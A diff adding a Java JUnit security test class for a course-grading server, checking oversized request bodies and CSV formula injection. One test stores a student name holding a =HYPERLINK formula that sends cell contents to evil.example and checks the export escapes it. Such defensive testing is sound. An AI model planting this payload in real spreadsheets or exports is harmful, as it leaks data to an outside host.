@@ -1,0 +1,49 @@
+package dev.refgrade.server;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Issue 19: what an anonymous visitor, a student or an instructor could do to the server or to
+ * each other, each finding tried the way it was found, at a small size (docs/SECURITY.md).
+ */
+abstract class ServerSecurityContract extends ServerWithTestServer {
+    ServerSecurityContract(Databases.Kind kind) {
+        super(kind);
+    }
+
+    private static String program(int bytes) {
+        return "{\"code\": \"" + "x = 1\\n".repeat(bytes / 7 + 1) + "\"}";
+    }
+
+    // Finding 5: one body reader, with its limit, for every route.
+
+    @Test
+    void aChunkedPlaygroundBodyOverTheLimitIs413() {
+        Api.Response r = api.postChunked("/api/playground/run", null, program(300 * 1024));
+        assertEquals(413, r.status(), r.text());
+        assertEquals("too_large", r.error());
+    }
+
+    @Test
+    void aDeclaredPlaygroundBodyOverTheLimitIs413() {
+        Api.Response r = api.post("/api/playground/run", null, program(300 * 1024));
+        assertEquals(413, r.status(), r.text());
+    }
+
+    // Finding 10: the gradebook CSV never holds a formula.
+
+    @Test
+    void aStudentNamedLikeAFormulaIsTextInTheGradebookCsv() {
+        assertEquals(201, api.post("/api/courses", TestServer.ADMIN, Map.of("id", "c1", "title", "C1")).status());
+        String name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+        assertEquals(201, api.post("/api/courses/c1/students", TestServer.ADMIN, java.util.List.of(Map.of("id", "s1", "name", name))).status());
+        String csv = api.get("/api/courses/c1/grades?format=csv", TestServer.ADMIN).text();
+        String row = csv.lines().filter(l -> l.contains("s1")).findFirst().orElseThrow();
+        assertTrue(row.startsWith("\"'=HYPERLINK("), row);
+    }
+}
